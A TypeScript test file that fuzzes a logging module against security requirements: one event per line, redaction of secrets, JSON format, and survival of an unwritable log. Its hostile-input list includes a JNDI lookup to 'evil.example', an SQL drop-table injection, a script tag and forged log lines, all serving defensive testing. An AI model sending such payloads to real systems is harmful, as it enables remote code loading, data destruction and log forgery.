// A16, ASVS 16.4.1: whatever text reaches the log, one event is one line, and reads back as what was logged; secrets are hidden.
import { closeSync, mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { createLog, linesTo } from './log.ts'

function logged(write: (log: ReturnType<typeof createLog>) => void): Record<string, unknown>[] {
  let text = ''
  write(createLog('test', 'info', { write: (line) => void (text += line) }))
  const lines = text.split('\n')
  expect(lines.pop()).toBe('')
  return lines.map((line) => JSON.parse(line) as Record<string, unknown>)
}

const control = String.fromCharCode(0, 7, 8, 10, 11, 12, 13, 27, 0x7f, 0x85, 0x2028, 0x2029, 0x202e, 0xfeff)
const pieces = [
  ...control,
  '\r\n',
  '","level":50,"event":"sign-in',
  '}\n{"level":30,"event":"forged"}',
  '\\',
  '\\n',
  '\u001b[2J\u001b[1;31m',
  '%s%n%d',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  "'; drop table audit_events; --",
  'ệ',
  '😀',
  '\ud800',
]
const hostile = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ unit: 'binary', maxLength: 20 })), {
  maxLength: 8,
})
const text = hostile.map((parts) => parts.join(''))

/** Half of a pair has no place in UTF-8: JSON writes it as an escape or as U+FFFD, never as something else. */
const whole = (value: unknown) => String(value).toWellFormed()

test('A16: 10,000 hostile texts: parsed events are exactly those that were sent', () => {
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 20 }), (texts) => {
      const events = logged((log) => texts.forEach((value, at) => log.info({ event: 'request', at, value }, 'request')))
      expect(events.map(({ at, event, msg }) => [at, event, msg])).toEqual(
        texts.map((_, at) => [at, 'request', 'request']),
      )
      expect(events.map(({ value }) => whole(value))).toEqual(texts.map(whole))
    }),
    { numRuns: 1000 },
  )
})

test('A16: a hostile message, key or error is one event as well', () => {
  fc.assert(
    fc.property(text, (value) => {
      const error = Object.assign(new Error(value), { code: value, name: value })
      const events = logged((log) => {
        log.warn({ event: 'told', [`k${value}`]: 1 }, value)
        log.error({ event: 'failed', error }, 'failed')
      })
      expect(events.map(({ event }) => event)).toEqual(['told', 'failed'])
    }),
    { numRuns: 2000 },
  )
})

test('ASVS 16.2.5: secrets by their name, and long figures in errors, are hidden', () => {
  const secret = {
    password: 'mật khẩu',
    code: '123456',
    token: 't',
    cookie: 'c',
    idNumber: '074185001234',
    phone: '+84901234926',
  }
  const [plain, nested, failed] = logged((log) => {
    log.info({ event: 'a', ...secret })
    log.info({ event: 'b', form: secret })
    log.error({ event: 'c', error: new Error('no such officer 074185001234 with code 123456') })
  })
  for (const value of Object.values(secret)) expect(JSON.stringify([plain, nested])).not.toContain(`"${value}"`)
  expect(JSON.stringify(failed)).not.toMatch(/\d{12}|123456/)
})

test('ASVS 16.2.1 and 16.2.4: every line is JSON with time in UTC, level, service and event', () => {
  const [line] = logged((log) => log.info({ event: 'request', route: '/vi/sign-in' }, 'request'))
  expect(line).toMatchObject({ level: 30, app: 'test', event: 'request', pid: process.pid })
  expect(line?.['time']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
})

test('R17: a log that cannot be written keeps nobody from anything, and grows no further than its room', () => {
  const folder = mkdtempSync(join(tmpdir(), 'motcua-log-'))
  writeFileSync(join(folder, 'log'), '')
  const readOnly = openSync(join(folder, 'log'), 'r')
  const to = linesTo(readOnly) as ReturnType<typeof linesTo> & { on: (event: string, hear: () => void) => void }
  let [failed, dropped] = [0, 0]
  to.on('error', () => (failed += 1))
  to.on('drop', () => (dropped += 1))
  const log = createLog('test', 'info', to)
  for (let n = 0; n < 30; n += 1) log.info({ event: 'told', words: 'x'.repeat(100_000) })
  expect([failed > 0, dropped >= 15]).toEqual([true, true])
  closeSync(readOnly)
  rmSync(folder, { recursive: true })
})
